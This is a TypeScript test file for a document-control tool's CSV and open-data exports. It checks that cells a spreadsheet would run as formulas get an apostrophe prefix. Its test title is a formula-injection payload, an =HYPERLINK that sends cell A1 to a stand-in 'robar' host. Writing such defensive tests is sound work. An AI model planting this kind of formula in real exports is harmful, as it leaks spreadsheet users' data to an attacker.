// What a build writes, read back as people read it (issue 16, items 6 and 9):
// every CSV neutralises cells a spreadsheet would run as formulas; the
// listado maestro opens in Excel es-CO (semicolons, UTF-8 BOM) and the open
// data stays RFC 4180 with commas — both read back with Python's csv module,
// an independent parser. And nothing appears at the top of output/ or of the
// site but the names an entity folder is forbidden to take.
import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { csvField, csvRecords, neutraliseCell } from '../../src/publish/csv.js';
import { OUTPUT_TOP_LEVEL_NAMES, RESERVED_ENTITY_NAMES, SITE_DIR, SITE_TOP_LEVEL_NAMES } from '../../src/publish/output-paths.js';
import { SAFE_SLUG } from '../../src/validate/schemas.js';
import { copyProject, editJson, MINIMAL_DOC } from '../support/project.js';
import { runCliAsync } from '../support/refuse.js';

const TITLE = '=HYPERLINK("http://x.example/robar?d="&A1;"clic")';

/** Rows of a CSV file as Python's csv module reads them. */
function pythonCsv(path: string, delimiter: string): string[][] {
  const script = 'import csv, json, sys\nwith open(sys.argv[1], encoding="utf-8-sig", newline="") as f:\n    print(json.dumps(list(csv.reader(f, delimiter=sys.argv[2]))))';
  return JSON.parse(execFileSync('python3', ['-c', script, path, delimiter], { encoding: 'utf8' })) as string[][];
}

function column(rows: string[][], name: string): string {
  const index = rows[0]!.indexOf(name);
  expect(index, `column ${name}`).toBeGreaterThanOrEqual(0);
  return rows[1]![index]!;
}

describe('CSV cells', () => {
  it('start with an apostrophe when a spreadsheet would take them for a formula, in one function', () => {
    expect(['=1+1', '+57', '-5', '@SUMA(A1)', '\tx', '\rx'].map(neutraliseCell)).toEqual(["'=1+1", "'+57", "'-5", "'@SUMA(A1)", "'\tx", "'\rx"]);
    expect(['Política', '2022-12-15', 'a=b', ''].map(neutraliseCell)).toEqual(['Política', '2022-12-15', 'a=b', '']);
    // Numbers are docctl's own counts and sizes: never prefixed.
    expect(csvField(-1)).toBe('-1');
    expect(csvField('\rx')).toBe('"\'\rx"');
    expect(csvRecords([['a;b', 'c']], ';')).toBe('"a;b";c\r\n');
  });
});

describe('the CSVs of a build, read back with Python', () => {
  it('neutralise every formula, split the listado with ";" for Excel and the open data with ","; only reserved names at the top of output/ and the site', { timeout: 900_000 }, async () => {
    const dir = copyProject();
    const data = join(dir, 'data');
    const output = join(dir, 'output');
    editJson(data, MINIMAL_DOC, (doc) => {
      doc.titulo = TITLE;
      doc.proceso = '+57 Gestión de Calidad';
      doc.dependencia = '-Oficina de Calidad';
      (doc.versiones as Record<string, unknown>[])[0]!.descripcion = '@SUMA(A1:A9)';
    });
    const build = await runCliAsync(['build', '--datos', data, '--salida', output, '--silencio']);
    expect(build.status, build.stderr).toBe(0);
    const listado = await runCliAsync(['listado', '--datos', data, '--salida', output]);
    expect(listado.status, listado.stderr).toBe(0);

    const listadoPath = join(output, 'listado-maestro.csv');
    expect([...readFileSync(listadoPath).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = pythonCsv(listadoPath, ';');
    expect(rows).toHaveLength(2);
    expect(rows[0]).toHaveLength(11);
    expect(rows[1]).toHaveLength(11);
    expect(column(rows, 'título')).toBe(`'${TITLE}`);
    expect(column(rows, 'proceso')).toBe("'+57 Gestión de Calidad");
    expect(column(rows, 'responsable')).toBe("'-Oficina de Calidad");
    expect(column(rows, 'código')).toBe('GC-P-001');

    // Each entity's own open data, in its folder of the site.
    const openData = join(output, SITE_DIR, 'entidad-prueba', 'datos-abiertos', 'documentos.csv');
    expect(readFileSync(openData, 'utf8').split('\r\n')[0]).toMatch(/^entidad,entidad_nombre,codigo,titulo,/);
    const open = pythonCsv(openData, ',');
    expect(open).toHaveLength(2);
    expect(open[1]).toHaveLength(open[0]!.length);
    expect(column(open, 'titulo')).toBe(`'${TITLE}`);
    expect(column(open, 'proceso')).toBe("'+57 Gestión de Calidad");
    expect(column(open, 'dependencia')).toBe("'-Oficina de Calidad");
    expect(column(open, 'descripcion_cambio')).toBe("'@SUMA(A1:A9)");
    // JSON is not a spreadsheet: its values stay as typed.
    const json = JSON.parse(readFileSync(join(output, SITE_DIR, 'entidad-prueba', 'datos-abiertos', 'documentos.json'), 'utf8')) as Record<string, unknown>[];
    expect(json[0]!.titulo).toBe(TITLE);

    // Beside the entity folders, only names docctl reserves.
    const entities = readdirSync(data).filter((name) => SAFE_SLUG.test(name));
    const outputNames = readdirSync(output).filter((name) => !entities.includes(name));
    for (const name of outputNames) expect(OUTPUT_TOP_LEVEL_NAMES as readonly string[], `output/${name}`).toContain(name);
    const siteNames = readdirSync(join(output, SITE_DIR)).filter((name) => !entities.includes(name));
    for (const name of siteNames) expect(SITE_TOP_LEVEL_NAMES as readonly string[], `sitio/${name}`).toContain(name);
    expect(siteNames).toContain('index.html');
    // And every one of those an entity folder could be named is refused.
    const nameable = [...OUTPUT_TOP_LEVEL_NAMES, ...SITE_TOP_LEVEL_NAMES].filter((name) => SAFE_SLUG.test(name)).sort();
    expect(RESERVED_ENTITY_NAMES).toEqual(nameable);
  });
});
